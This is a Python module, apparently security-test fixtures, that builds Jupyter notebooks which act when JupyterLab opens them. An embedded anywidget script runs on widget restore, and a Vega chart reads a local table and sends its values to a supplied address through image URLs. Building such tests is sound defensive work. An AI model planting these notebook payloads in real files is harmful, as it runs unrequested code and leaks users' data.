"""Notebooks whose outputs and metadata act as soon as JupyterLab opens them, trusted or not."""

from copy import deepcopy
from importlib.metadata import version

from nbformat import NotebookNode
from nbformat.v4 import new_output

MARK = "mallory"  # in everything that is not graded, and in each address that is asked for
WIDGETS = "application/vnd.jupyter.widget-state+json"
VEGA = "application/vnd.vega.v5+json"
# The widget manager imports a model's script when it restores a notebook's widgets, before anything is shown.
SCRIPT = """
window.ran = "mallory";
export default { initialize() {}, render() {} };
"""


def widget(script: str = SCRIPT) -> dict:
    """Return the saved state of one anywidget that runs `script`."""
    major, minor, *_ = version("anywidget").split(".")
    of = {"_model_module": "anywidget", "_model_name": "AnyModel", "_view_module": "anywidget"}
    of |= {"_view_name": "AnyView", "_anywidget_id": MARK, "_esm": script, "_css": ""}
    kind = f"~{major}.{minor}.0"
    of |= {"_model_module_version": kind, "_view_module_version": kind, "_dom_classes": []}
    names = {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": kind}
    state = {MARK: names | {"state": of}}
    return {WIDGETS: {"version_major": 2, "version_minor": 0, "state": state}}


def chart(read: str, send_to: str) -> dict:
    """Return a chart that reads the table at `read` and asks `send_to` for an image with each mark."""
    address = f"'{send_to}/{MARK}?points=' + datum.points"
    place = {name: {"value": 9} for name in ("x", "y", "width", "height")}
    image = {"type": "image", "from": {"data": "t"}}
    image |= {"encode": {"enter": place | {"url": {"signal": address}}}}
    data = [{"name": "t", "url": read, "format": {"type": "csv"}}]
    schema = "https://vega.github.io/schema/vega/v5.json"
    spec = {"$schema": schema, "width": 50, "height": 50, "data": data, "marks": [image]}
    return new_output("display_data", {VEGA: spec})


def hostile(notebook: NotebookNode, read: str = "", send_to: str = "") -> NotebookNode:
    """Return a copy with the widget, the chart, and metadata of its own in the last code cell."""
    found = deepcopy(notebook)
    found.metadata["widgets"] = widget()
    last = [cell for cell in found.cells if cell.cell_type == "code"][-1]
    last.outputs = [chart(read, send_to)]
    last.metadata["tags"] = [MARK]
    return found
